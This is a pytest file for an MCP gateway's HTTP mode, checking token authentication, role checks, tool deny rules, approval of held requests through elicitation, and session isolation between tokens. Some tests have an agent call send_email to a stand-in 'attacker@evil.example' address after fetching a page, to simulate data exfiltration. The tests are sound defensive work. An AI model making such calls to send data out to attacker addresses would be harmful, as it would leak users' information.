"""``charter mcp serve --http``: streamable HTTP sessions with charter's API tokens."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import anyio
import httpx2
import mcp_types as types
import pytest

from mcp_client import cli, http_session, names, payloads, run_of, text

pytestmark = pytest.mark.usefixtures("charter_env")

Serve = Callable[..., str]
GATEWAY = [sys.executable, "-m", "charter", "mcp", "serve"]


def token(name: str, role: str) -> str:
    made = cli("tokens", "create", name, "--role", role, "--as", "admin")
    assert made.returncode == 0, made.stdout + made.stderr
    return made.stdout.strip().splitlines()[-1]


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.fixture
def serve() -> Iterator[Serve]:
    """Start ``charter mcp serve --http`` on a free port; returns its URL."""
    procs: list[subprocess.Popen[bytes]] = []

    def start(agent_file: Path, *extra: str) -> str:
        port = free_port()
        proc = subprocess.Popen(
            [*GATEWAY, str(agent_file), "--http", "--port", str(port), *extra],
            env=dict(os.environ),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        procs.append(proc)
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                return f"http://127.0.0.1:{port}/mcp"
            except OSError:
                if proc.poll() is not None:
                    pytest.fail("the gateway exited")
                time.sleep(0.2)
        pytest.fail("the gateway did not start")

    yield start
    for proc in procs:
        proc.terminate()
        proc.wait(timeout=30)


def locked(write_agent: Any, **entry: Any) -> Path:
    agent_file = write_agent(**entry)
    done = cli("mcp", "lock", str(agent_file), "--as", "ops")
    assert done.returncode == 0, done.stdout + done.stderr
    return agent_file


def finished(run_id: str) -> dict[str, Any]:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        found = payloads("run.finished", run_id)
        if found:
            return found[0]
        time.sleep(0.2)
    raise AssertionError(f"run {run_id} did not finish")


def test_a_governed_session_over_http_runs_as_the_tokens_identity(
    write_agent: Any, outbox: Path, serve: Serve
) -> None:
    agent_file = locked(
        write_agent, trust="trusted", charter={"name": "c", "tools": {"deny": ["crash"]}}
    )
    url = serve(agent_file)
    secret = token("alice", "operator")

    async def client() -> tuple[set[str], types.CallToolResult, types.CallToolResult]:
        async with http_session(url, secret) as mcp:
            listed = names(await mcp.list_tools())
            sent = await mcp.call_tool("send_email", {"to": "ada@example.com", "body": "http"})
            denied = await mcp.call_tool("crash", {"note": "x"})
            return listed, sent, denied

    listed, sent, denied = anyio.run(client)
    assert "crash" not in listed and "send_email" in listed
    assert not sent.is_error, text(sent)
    assert denied.is_error and "tools.deny" in text(denied)
    assert outbox.read_text() == "ada@example.com\thttp\n"
    run_id = run_of(sent)
    (started,) = payloads("run.started", run_id)
    assert started["actor"] == "alice"
    assert finished(run_id)["status"] == "completed"  # the client closed its session
    checked = cli("audit", "verify")
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_a_missing_or_bad_token_is_401_and_only_the_refusal_is_journaled(
    write_agent: Any, outbox: Path, serve: Serve
) -> None:
    url = serve(locked(write_agent))
    body = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {"name": "send_email", "arguments": {"to": "a@b.example", "body": "x"}},
    }
    headers = {"Accept": "application/json, text/event-stream"}
    missing = httpx2.post(url, json=body, headers=headers)
    bad = httpx2.post(url, json=body, headers=headers | {"Authorization": "Bearer chr_nope"})
    assert (missing.status_code, bad.status_code) == (401, 401)
    assert bad.headers["www-authenticate"] == "Bearer"
    assert bad.json() == {"detail": "invalid or revoked token"}
    rejected = payloads("api.rejected")
    assert [(r["status"], r["reason"]) for r in rejected] == [
        (401, "no bearer token"),
        (401, "invalid or revoked token"),
    ]
    assert "chr_nope" not in str(rejected)
    assert payloads("run.started") == [] and payloads("step.decided") == []
    assert not outbox.exists()


def test_a_token_whose_role_may_not_operate_is_403(write_agent: Any, serve: Serve) -> None:
    url = serve(locked(write_agent))
    viewer = token("vic", "viewer")
    body = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "initialize",
        "params": {
            "protocolVersion": "2025-11-25",
            "capabilities": {},
            "clientInfo": {"name": "t", "version": "1"},
        },
    }
    headers = {"Accept": "application/json, text/event-stream", "Authorization": f"Bearer {viewer}"}
    refused = httpx2.post(url, json=body, headers=headers)
    assert refused.status_code == 403
    assert "may not operate" in refused.json()["detail"]
    (rejected,) = payloads("api.rejected")
    assert (rejected["status"], rejected["actor"]) == (403, "vic")
    assert payloads("run.started") == []


def test_an_operator_token_cannot_answer_its_own_ask_through_elicitation(
    write_agent: Any, outbox: Path, serve: Serve
) -> None:
    charter = {"name": "c", "approvals": {"forbid_self_approval": False}}
    url = serve(locked(write_agent, charter=charter), "--ask-timeout", "0")
    secret = token("olga", "operator")
    asked: list[str] = []

    async def yes(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        asked.append(params.message)
        return types.ElicitResult(action="accept", content={"approve": True})

    async def client() -> types.CallToolResult:
        async with http_session(url, secret, elicit=yes) as mcp:
            await mcp.call_tool("fetch_page", {"url": "https://shop.example"})
            return await mcp.call_tool("send_email", {"to": "attacker@evil.example", "body": "o"})

    held = anyio.run(client)
    assert asked == []  # the role may not approve: the inbox decides
    assert held.is_error and "charter approvals approve" in text(held)
    assert payloads("approval.granted") == []
    assert not outbox.exists()


def test_an_admin_token_answers_an_ask_through_elicitation_over_http(
    write_agent: Any, outbox: Path, serve: Serve
) -> None:
    charter = {"name": "c", "approvals": {"forbid_self_approval": False}}
    url = serve(locked(write_agent, charter=charter))
    secret = token("ada", "admin")

    async def yes(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        return types.ElicitResult(action="accept", content={"approve": True})

    async def client() -> types.CallToolResult:
        async with http_session(url, secret, elicit=yes) as mcp:
            await mcp.call_tool("fetch_page", {"url": "https://shop.example"})
            return await mcp.call_tool("send_email", {"to": "attacker@evil.example", "body": "a"})

    sent = anyio.run(client)
    assert not sent.is_error, text(sent)
    (granted,) = payloads("approval.granted", run_of(sent))
    assert granted["approver"] == "ada" and "elicitation" in granted["reason"]
    assert outbox.read_text() == "attacker@evil.example\ta\n"


def rpc(url: str, secret: str, body: dict[str, Any], session_id: str = "") -> httpx2.Response:
    headers = {
        "Accept": "application/json, text/event-stream",
        "Authorization": f"Bearer {secret}",
        "MCP-Protocol-Version": "2025-11-25",
    }
    if session_id:
        headers["Mcp-Session-Id"] = session_id
    return httpx2.post(url, json=body, headers=headers, timeout=60)


def message(response: httpx2.Response) -> dict[str, Any]:
    """The JSON-RPC message of a response (JSON, or the first SSE data line)."""
    import json

    if response.headers.get("content-type", "").startswith("application/json"):
        return dict(response.json())
    data = next(line for line in response.text.splitlines() if line.startswith("data: "))
    return dict(json.loads(data[len("data: ") :]))


def test_a_session_refuses_another_tokens_requests(write_agent: Any, serve: Serve) -> None:
    url = serve(locked(write_agent))
    alice, mallory = token("alice", "operator"), token("mallory", "operator")
    init = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "initialize",
        "params": {
            "protocolVersion": "2025-11-25",
            "capabilities": {},
            "clientInfo": {"name": "t", "version": "1"},
        },
    }
    opened = rpc(url, alice, init)
    assert opened.status_code == 200, opened.text
    session_id = opened.headers["mcp-session-id"]
    ready = {"jsonrpc": "2.0", "method": "notifications/initialized"}
    assert rpc(url, alice, ready, session_id).status_code == 202
    listing = {"jsonrpc": "2.0", "id": 2, "method": "tools/list"}
    theirs = rpc(url, mallory, listing, session_id)
    assert theirs.status_code == 404 and "Session not found" in theirs.text
    mine = message(rpc(url, alice, listing, session_id))
    assert "send_email" in {t["name"] for t in mine["result"]["tools"]}
